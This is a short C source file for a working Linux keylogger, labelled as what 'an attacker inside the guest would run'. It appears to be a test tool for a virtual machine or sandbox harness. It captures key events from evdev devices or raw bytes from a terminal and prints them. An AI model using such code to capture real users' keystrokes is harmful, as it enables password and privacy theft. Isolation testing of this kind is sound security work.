/*
 * keylog: a keylogger, as an attacker inside the guest would run it.
 *   keylog [count]                    evdev: prints "KEY <code> <value>" for key events of the active
 *                                     keyboard (/dev/input/keyboard, set up by /init; else event0)
 *   keylog --evdev <device> [count]   the same for a chosen event device
 *   keylog --tty <device> [count]     raw terminal: prints "CHAR <byte>" for each byte read
 * Stops after <count> events (0 = until killed).
 */
#include <fcntl.h>
#include <linux/input.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <unistd.h>

static int evdev(const char *path, long count) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return perror(path), 1;
  printf("KEYLOG ready device=%s\n", path);
  struct input_event ev;
  long seen = 0;
  while (count == 0 || seen < count) {
    ssize_t n = read(fd, &ev, sizeof ev);
    if (n != (ssize_t)sizeof ev) return perror("read"), 1;
    if (ev.type != EV_KEY) continue;
    printf("KEY %u %d\n", ev.code, ev.value);
    seen++;
  }
  return 0;
}

static int tty(const char *path, long count) {
  int fd = open(path, O_RDWR | O_NOCTTY);
  if (fd < 0) return perror(path), 1;
  /* Raw mode on this very descriptor: the line discipline then hands over every byte. */
  struct termios t;
  if (tcgetattr(fd, &t) == 0) {
    cfmakeraw(&t);
    tcsetattr(fd, TCSANOW, &t);
  }
  printf("KEYLOG ready device=%s\n", path);
  unsigned char c;
  long seen = 0;
  while (count == 0 || seen < count) {
    ssize_t n = read(fd, &c, 1);
    if (n != 1) return perror("read"), 1;
    printf("CHAR %u\n", c);
    seen++;
  }
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 3 && strcmp(argv[1], "--tty") == 0) return tty(argv[2], argc > 3 ? strtol(argv[3], NULL, 10) : 0);
  if (argc >= 3 && strcmp(argv[1], "--evdev") == 0) return evdev(argv[2], argc > 3 ? strtol(argv[3], NULL, 10) : 0);
  if (argc <= 2 && (argc == 1 || argv[1][0] != '-')) {
    const char *device = access("/dev/input/keyboard", R_OK) == 0 ? "/dev/input/keyboard" : "/dev/input/event0";
    return evdev(device, argc > 1 ? strtol(argv[1], NULL, 10) : 0);
  }
  fprintf(stderr, "usage: keylog [count] | keylog --evdev <device> [count] | keylog --tty <device> [count]\n");
  return 2;
}
